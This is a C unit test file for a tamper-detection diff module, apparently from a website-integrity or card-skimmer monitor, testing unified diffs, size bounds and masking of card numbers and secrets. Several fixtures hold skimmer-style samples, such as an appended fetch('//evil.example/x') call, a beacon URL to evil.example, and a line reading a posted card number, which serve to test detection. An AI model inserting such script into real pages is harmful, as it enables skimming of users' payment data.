#include "detect/tamper/diff.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/text.h"
#include "detect/tamper/mask.h"

#define LIMIT ((size_t)16 << 10)

static struct view view_of(const char *text) {
        return (struct view){(const unsigned char *)text, strlen(text)};
}

static void check(const char *before, const char *after, const char *expected) {
        _cleanup_(buffer_deinit) struct buffer out = {0};
        assert_int_equal(diff_unified("f", true, view_of(before), view_of(after), LIMIT, &out), 0);
        assert_string_equal(out.data ?: "", expected);
}

static void as_diff_writes_it(void **state _unused_) {
        check("a\nb\nc\n", "a\nb\nc\n", "");
        check("a\nb\nc\n", "a\nB\nc\n", "--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n");
        check("1\n2\n3\n4\n5\n6\n7\n8\n9\n", "1\n2\n3\n4\n5\nx\n6\n7\n8\n9\n",
              "--- a/f\n+++ b/f\n@@ -3,6 +3,7 @@\n 3\n 4\n 5\n+x\n 6\n 7\n 8\n");
        check("", "a\n", "--- a/f\n+++ b/f\n@@ -0,0 +1,1 @@\n+a\n");
        check("a\n", "", "--- a/f\n+++ b/f\n@@ -1,1 +0,0 @@\n-a\n");
        check("a", "a\n", "--- a/f\n+++ b/f\n@@ -1,1 +1,1 @@\n-a\n\\ No newline at end of file\n+a\n");
        check("a\r\nb\r\n", "a\r\nc\r\n", "--- a/f\n+++ b/f\n@@ -1,2 +1,2 @@\n a\r\n-b\r\n+c\r\n");
        /* two hunks: the common lines between are more than two contexts */
        check("a\n1\n2\n3\n4\n5\n6\n7\n8\nb\n", "A\n1\n2\n3\n4\n5\n6\n7\n8\nB\n",
              "--- a/f\n+++ b/f\n@@ -1,4 +1,4 @@\n-a\n+A\n 1\n 2\n 3\n@@ -7,4 +7,4 @@\n 6\n 7\n 8\n-b\n+B\n");
        check("a\n1\n2\n3\n4\n5\n6\nb\n", "A\n1\n2\n3\n4\n5\n6\nB\n",
              "--- a/f\n+++ b/f\n@@ -1,8 +1,8 @@\n-a\n+A\n 1\n 2\n 3\n 4\n 5\n 6\n-b\n+B\n");
}

static void created_and_named(void **state _unused_) {
        _cleanup_(buffer_deinit) struct buffer out = {0};
        assert_int_equal(diff_unified("x\n+++ y", false, view_of(""), view_of("a\n"), LIMIT, &out), 0);
        assert_string_equal(out.data, "--- /dev/null\n+++ b/x\\n+++ y\n@@ -0,0 +1,1 @@\n+a\n");
}

/* What diff says, done to `before`, gives `after`: a line by line patch(1). */
static void apply(const char *diff, struct view before, struct buffer *out) {
        size_t at = 0, line = 1;
        const char *p = strstr(diff, "\n@@");
        for (p = p ? p + 1 : diff + strlen(diff); *p;) {
                size_t size = strcspn(p, "\n");
                if (*p == '@') {
                        size_t first = strtoul(p + 4, NULL, 10), n = strtoul(strchr(p, ',') + 1, NULL, 10);
                        for (first += n == 0; line < first; line++) {
                                const unsigned char *newline =
                                        memchr(before.data + at, '\n', before.size - at);
                                size_t next = newline ? (size_t)(newline - before.data) + 1 : before.size;
                                buffer_append(out, before.data + at, next - at);
                                at = next;
                        }
                } else if (*p == '\\') {
                        /* of the line before: no newline */
                        if (out->size && out->data[out->size - 1] == '\n')
                                out->data[--out->size] = '\0';
                } else {
                        if (*p != '-')
                                buffer_append(out, p + 1, size - 1);
                        if (*p != '-')
                                buffer_append_string(out, "\n");
                        if (*p != '+') {
                                const unsigned char *newline =
                                        memchr(before.data + at, '\n', before.size - at);
                                at = newline ? (size_t)(newline - before.data) + 1 : before.size;
                                line++;
                        }
                }
                p += size + 1;
        }
        buffer_append(out, before.data + at, before.size - at);
}

static void fill(struct buffer *buffer, unsigned *seed, unsigned n_lines, unsigned kinds) {
        for (unsigned i = 0; i < n_lines; i++) {
                *seed = *seed * 1103515245 + 12345;
                buffer_format(buffer, "%u\n", (*seed >> 16) % kinds);
        }
        buffer_reserve(buffer, 0);
}

static void a_diff_can_be_applied(void **state _unused_) {
        unsigned seed = 1;
        for (unsigned round = 0; round < 400; round++) {
                _cleanup_(buffer_deinit) struct buffer a = {0}, b = {0}, diff = {0}, made = {0};
                fill(&a, &seed, round % 60, 2 + round % 7);
                fill(&b, &seed, (round * 7) % 60, 2 + round % 7);
                struct view before = {(unsigned char *)a.data, a.size},
                            after = {(unsigned char *)b.data, b.size};
                assert_int_equal(diff_unified("f", true, before, after, 1 << 20, &diff), 0);
                apply(diff.data ?: "", before, &made);
                assert_int_equal(made.size, b.size);
                if (b.size)
                        assert_memory_equal(made.data, b.data, b.size);
        }
}

/* More differences than the bound: still right, shown whole. */
static void past_the_cost_bound(void **state _unused_) {
        unsigned seed = 7;
        _cleanup_(buffer_deinit) struct buffer a = {0}, b = {0}, diff = {0}, made = {0};
        fill(&a, &seed, 6000, 100000);
        fill(&b, &seed, 6000, 100000);
        struct view before = {(unsigned char *)a.data, a.size}, after = {(unsigned char *)b.data, b.size};
        assert_int_equal(diff_unified("f", true, before, after, 1 << 20, &diff), 0);
        apply(diff.data, before, &made);
        assert_int_equal(made.size, b.size);
        assert_memory_equal(made.data, b.data, b.size);
}

static void is_shortest(void **state _unused_) {
        _cleanup_(buffer_deinit) struct buffer out = {0};
        struct view a = view_of("a\nb\nc\na\nb\nb\na\n"), b = view_of("c\nb\na\nb\na\nc\n");
        assert_int_equal(diff_unified("f", true, a, b, LIMIT, &out), 0);
        unsigned edits = 0;
        for (const char *p = strchr(out.data, '@'); p; p = strchr(p + 1, '\n'))
                edits += p[1] == '+' || p[1] == '-';
        assert_int_equal(edits, 5); /* the example in Myers' paper: D = 5 */
}

static void a_line_of_ten_million(void **state _unused_) {
        size_t size = 10000000;
        char *before = malloc(size), *after = malloc(size + 40);
        memset(before, 'a', size);
        memcpy(after, before, size);
        memcpy(after + size, ";fetch('//evil.example/x')", 26);
        _cleanup_(buffer_deinit) struct buffer out = {0};
        struct view a = {(unsigned char *)before, size}, b = {(unsigned char *)after, size + 26};
        assert_int_equal(diff_unified("f", true, a, b, LIMIT, &out), 0);
        assert_non_null(strstr(out.data, "fetch('//evil.example/x')"));
        assert_true(out.size < 3000);
        free(before);
        free(after);
}

static void many_lines_are_cut(void **state _unused_) {
        _cleanup_(buffer_deinit) struct buffer a = {0}, b = {0}, out = {0};
        for (unsigned i = 0; i < 5000; i++) {
                buffer_format(&a, "old %u\n", i);
                buffer_format(&b, "new %u\n", i);
        }
        struct view before = {(unsigned char *)a.data, a.size}, after = {(unsigned char *)b.data, b.size};
        assert_int_equal(diff_unified("f", true, before, after, LIMIT, &out), 1);
        assert_true(out.size <= LIMIT);
        assert_non_null(strstr(out.data, "\n-old 0\n"));
        assert_non_null(strstr(out.data, "\n+new 0\n"));
}

static void binary_and_keys_are_not_shown(void **state _unused_) {
        _cleanup_(buffer_deinit) struct buffer out = {0};
        struct view nul = {(const unsigned char *)"a\0b\n", 4};
        assert_int_equal(diff_unified("f", true, view_of("a\n"), nul, LIMIT, &out), 0);
        assert_int_equal(diff_unified("f", true, view_of("a\n"),
                                      view_of("-----BEGIN PRIVATE KEY-----\nAAAA\n"), LIMIT, &out),
                         0);
        assert_int_equal(out.size, 0);
}

static void is_valid_utf8(void **state _unused_) {
        _cleanup_(buffer_deinit) struct buffer out = {0};
        assert_int_equal(
                diff_unified("f", true, view_of("a\n"), view_of("\xff\xe3\x81\x82\\n\n"), LIMIT, &out), 0);
        assert_true(text_is_utf8(out.data, out.size));
        assert_non_null(strstr(out.data, "\n+\\xff\xe3\x81\x82\\n\n"));
}

static void check_mask(const char *line, const char *expected) {
        _cleanup_(buffer_deinit) struct buffer out = {0};
        assert_int_equal(mask_append(&out, view_of(line)), 0);
        assert_string_equal(out.data ?: "", expected);
}

static void masks(void **state _unused_) {
        check_mask("n=4111111111111111;", "n=[card number];");
        check_mask("3782 822463 10005 and 5555-5555-5555-4444", "[card number] and [card number]");
        check_mask("4111111111111112", "4111111111111112");
        check_mask("to: Taro.Yamada+x@mail.example.jp.", "to: [mail address].");
        check_mask("img/logo@2x.png", "img/logo@2x.png");
        check_mask("@media (min-width:1px)", "@media (min-width:1px)");
        check_mask("define('DB_PASSWORD', 'hunter22');", "define('DB_PASSWORD', '[secret]');");
        check_mask("DATABASE_URL=mysql://u:p@h/d", "DATABASE_URL=[secret]");
        check_mask("ECCUBE_AUTH_MAGIC=abc APP_SECRET=0123456789abcdef",
                   "ECCUBE_AUTH_MAGIC=abc APP_SECRET=[secret]");
        check_mask("\"api_key\": \"sk_live_1234\"", "\"api_key\": \"[secret]\"");
        check_mask("root:$6$abcdefgh$0123456789abcdefghij:19000:", "root:[secret]:19000:");
        check_mask("$password = get_password($x);", "$password = get_password($x);");
        check_mask("var beacon_url = 'https://evil.example/c';",
                   "var beacon_url = 'https://evil.example/c';");
        check_mask("$key = $_POST['card_no'];", "$key = $_POST['card_no'];");
}

static void cuts_do_not_uncover(void **state _unused_) {
        char line[800];
        memset(line, ' ', sizeof(line));
        memcpy(line + 592, "4111111111111111 ", 17);
        line[sizeof(line) - 1] = '\0';
        _cleanup_(buffer_deinit) struct buffer out = {0};
        assert_int_equal(diff_unified("f", true, view_of(""), view_of(line), LIMIT, &out), 0);
        assert_null(strstr(out.data, "4111"));
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(as_diff_writes_it),     cmocka_unit_test(created_and_named),
                cmocka_unit_test(a_diff_can_be_applied), cmocka_unit_test(past_the_cost_bound),
                cmocka_unit_test(is_shortest),           cmocka_unit_test(a_line_of_ten_million),
                cmocka_unit_test(many_lines_are_cut),    cmocka_unit_test(binary_and_keys_are_not_shown),
                cmocka_unit_test(is_valid_utf8),         cmocka_unit_test(masks),
                cmocka_unit_test(cuts_do_not_uncover),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
